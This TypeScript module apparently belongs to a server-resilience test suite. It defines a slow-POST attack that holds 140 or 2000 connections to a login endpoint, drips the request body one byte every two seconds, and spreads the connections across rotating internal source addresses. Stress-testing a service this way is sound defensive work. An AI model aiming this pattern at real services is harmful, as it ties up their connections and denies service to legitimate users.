import type { Attack } from '../attack.ts'
import { addressIn } from '../http.ts'
import { holdConnections } from '../sockets.ts'

const PER_ADDRESS = 100

const slowBodies = (count: number): Pick<Attack, 'what' | 'health' | 'pages' | 'api' | 'attack'> => ({
  what: `${count} POSTs to the login whose bodies come at one byte each 2 s`,
  health: 'ready',
  pages: 'served',
  api: 'served',
  attack: async ({ url }, signal) => {
    await holdConnections(
      {
        url,
        count,
        from: (at) => addressIn(10, Math.floor(at / PER_ADDRESS)),
        begin: `POST /api/login HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 900\r\n\r\n`,
        drip: 'username=',
      },
      signal,
    )
    return []
  },
})

export const slowBodies140: Attack = { name: 'slow-bodies-140', short: true, ...slowBodies(140) }
export const slowBodies2000: Attack = { name: 'slow-bodies-2000', short: false, leastSeconds: 12, ...slowBodies(2000) }
